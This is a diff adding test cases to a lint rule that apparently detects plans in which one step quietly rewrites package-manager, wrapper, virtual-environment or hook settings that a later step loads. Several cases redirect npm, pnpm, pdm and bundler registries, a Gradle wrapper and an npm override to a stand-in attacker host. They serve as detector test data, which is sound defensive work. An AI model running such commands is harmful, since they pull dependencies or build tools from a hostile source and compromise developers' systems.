@@ -1316,6 +1316,46 @@ const rewriteCases: [writer: string, loader: string, files: string][] = [
   ["rye pin ./py", "rye run pytest", ".python-version"],
 ];
 
+/**
+ * Settings of where a package manager fetches from, build wrappers, virtual environments made from an
+ * interpreter by its path, package.json's keys and hook revisions, rewritten without a word naming the
+ * file: each later run that reads one, with the files it reads (in report order) and who wrote them.
+ */
+const settingsCases: [writer: string, loader: string, reads: [file: string, by: string][]][] = [
+  ["npm config set registry https://evil.example/ --location project", "npm install", [[".npmrc", "npm config set"]]],
+  ["npm config set registry https://evil.example/ -L project", "npx prettier --check .", [[".npmrc", "npm config set"]]],
+  ["npm --location=project set registry https://evil.example/", "npm ci", [[".npmrc", "npm config set"]]],
+  ["npm config edit --location=project", "npm install", [[".npmrc", "npm config edit"]]],
+  ["npm config set registry https://evil.example/ --userconfig .npmrc", "npm install", [[".npmrc", "npm config set"]]],
+  ["pnpm config set registry https://evil.example/ --location project", "pnpm install", [[".npmrc", "pnpm config set"], ["pnpm-workspace.yaml", "pnpm config set"]]],
+  ["pdm config --local pypi.url https://evil.example/", "pdm install", [["pdm.toml", "pdm config"]]],
+  ["bundle config set --local mirror.https://rubygems.org https://evil.example/", "bundle install", [[".bundle/config", "bundle config"]]],
+  ["gradle wrapper --distribution-url https://evil.example/g.zip", "./gradlew build", [["./gradlew", "gradle wrapper"], ["gradle/wrapper/gradle-wrapper.jar", "gradle wrapper"], ["gradle/wrapper/gradle-wrapper.properties", "gradle wrapper"]]],
+  ["./gradlew wra --gradle-version 8.5", "gradle build", [["gradle/wrapper/gradle-wrapper.jar", "gradlew wrapper"], ["gradle/wrapper/gradle-wrapper.properties", "gradlew wrapper"]]],
+  ["mvn -N io.takari:maven:wrapper", "mvn package", [[".mvn/wrapper/MavenWrapperDownloader.java", "mvn wrapper:wrapper"], [".mvn/wrapper/maven-wrapper.jar", "mvn wrapper:wrapper"], [".mvn/wrapper/maven-wrapper.properties", "mvn wrapper:wrapper"]]],
+  ["uv venv -p ./py", "uv run pytest", [[".venv/**", "uv venv"]]],
+  ["uv venv --python=./py", ".venv/bin/python x.py", [[".venv/bin/python", "uv venv"], [".venv/**", "uv venv"]]],
+  ["npm pkg set overrides.lodash=https://evil.example/l.tgz", "npm install", [["package.json", "npm pkg set"]]],
+  ["bun pm pkg set packageManager=pnpm@9.0.0", "pnpm install", [["package.json", "bun pm pkg set"]]],
+  ["pre-commit autoupdate", "pre-commit run --all-files", [[".pre-commit-config.yaml", "pre-commit autoupdate"]]],
+  ["prek migrate-config", "git commit -m x", [[".pre-commit-config.yaml", "prek migrate-config"]]],
+];
+
+ruleTester("disallowed-tool", {
+  valid: [
+    ...settingsCases.map(([writer]) => ({ name: `${writer} with nothing run after it`, code: steps(run(writer)) })),
+    {
+      name: "settings read, descriptive keys, the user's settings, a wrapper run, an interpreter by its version",
+      code: steps(run("npm config get registry"), run("npm pkg set version=1.2.3 description=x"), run("npm pkg get scripts"), run("bundle config get mirror"), run("gradle build"), run("uv venv -p 3.12"), run("pre-commit run --all-files"), run("npm install"), run("./gradlew build"), run("uv run pytest"), run("bundle install")),
+    },
+  ],
+  invalid: settingsCases.map(([writer, loader, reads]) => ({
+    name: `${writer}, then ${loader}`,
+    code: steps(run(writer), run(loader)),
+    errors: reads.map(([file, by]) => ({ step: 2, messageId: "writtenUnknown", message: new RegExp(`run ${file.replace(/[.*]/g, "\\$&")}, which step 1 writes without its text in the plan \\(written by ${by}, which rewrites it without a word of the line naming it\\)`) })),
+  })),
+});
+
 ruleTester("disallowed-tool", {
   valid: [
     ...rewriteCases.map(([writer]) => ({ name: `${writer} with nothing run after it`, code: steps(run(writer)) })),
